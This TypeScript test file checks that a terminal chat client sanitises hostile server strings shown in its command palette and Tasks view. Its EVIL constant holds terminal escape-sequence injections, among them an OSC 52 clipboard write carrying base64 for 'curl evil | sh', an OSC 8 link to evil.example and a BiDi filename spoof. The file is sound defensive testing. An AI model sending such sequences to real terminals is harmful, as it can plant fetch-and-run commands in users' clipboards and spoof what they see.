// The terminal UI in a real pseudo-terminal against a hostile service (a real proxy in front of the
// local service) that puts escapes, BiDi and invisible characters into the fields that could reach
// the screen raw: a command's risk in the palette, a task's ref and status in Tasks.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEmulator, type TestEmulator } from '../../support/emulator';
import { startHostileProxy, type HostileProxy } from '../../support/hostile-proxy';
import { PtyApp, ensureBuilt } from '../support/pty-app';

const MARIA = 'hpt_member_rw';
/** Device status report (the terminal answers it as typed input), OSC 52, OSC 8, DCS, 8-bit CSI, BiDi override, zero-width space. */
const EVIL = '\x1b[6n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;https://evil.example\x07L\x1b]8;;\x07\x1bPq#0\x1b\\\u009b31m\u202Etxt.exe\u200B';
const SHOWN = 'L<U+202E>txt.exe<U+200B>';
const HOSTILE_FIELDS: Record<string, readonly string[]> = {
  '/api/v1/actions/list_capabilities': ['risk'],
  '/api/v1/tasks': ['ref', 'status'],
};

function poison(value: unknown, fields: readonly string[]): unknown {
  if (Array.isArray(value)) return value.map((v) => poison(v, fields));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([k, v]) => [k, fields.includes(k) && typeof v === 'string' ? `${v}${EVIL}` : poison(v, fields)]),
  );
}

/** Nothing of EVIL but its visible text reached the terminal in `raw`. */
function expectInert(raw: string): void {
  expect(raw).not.toContain('\x1b[6n');
  expect(raw).not.toContain('\x1b]52');
  expect(raw).not.toContain('\x1b]8;');
  expect(raw).not.toContain('\x1bP');
  expect(raw).not.toContain('\u009b');
  expect(raw).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
}

describe('hostile server strings in the terminal UI', () => {
  let emu: TestEmulator;
  let proxy: HostileProxy;
  let app: PtyApp;

  beforeAll(async () => {
    ensureBuilt();
    emu = await startEmulator();
    proxy = await startHostileProxy(emu.url, (path, body) => {
      const fields = HOSTILE_FIELDS[path];
      return fields ? poison(body, fields) : body;
    });
    app = new PtyApp([], { WSC_URL: proxy.url, WSC_TOKEN: MARIA }, { cols: 160, rows: 30 });
    await app.waitFor('Maria Member (@maria) in');
    await app.waitFor('general');
  });

  afterAll(async () => {
    await app?.quit();
    await proxy?.stop();
    await emu?.stop();
  });

  it('the palette shows a command risk sanitised, BiDi/invisibles as <U+…>', async () => {
    const since = app.mark();
    await app.press(':', 'type to filter');
    await app.waitFor(`[read${SHOWN}]`, { since });
    expectInert(app.output.slice(since));
    await app.press('\x1b', 'Pick a channel');
  });

  it('the Tasks view shows ref and status sanitised, BiDi/invisibles as <U+…>', async () => {
    const since = app.mark();
    await app.press('t', 'Tasks (');
    await app.waitFor(new RegExp(`T-\\d+${SHOWN.replace(/[+.<>()[\]]/g, '\\$&')}`), { since });
    await app.waitFor(`doing${SHOWN}`, { since });
    expectInert(app.output.slice(since));
  });
});
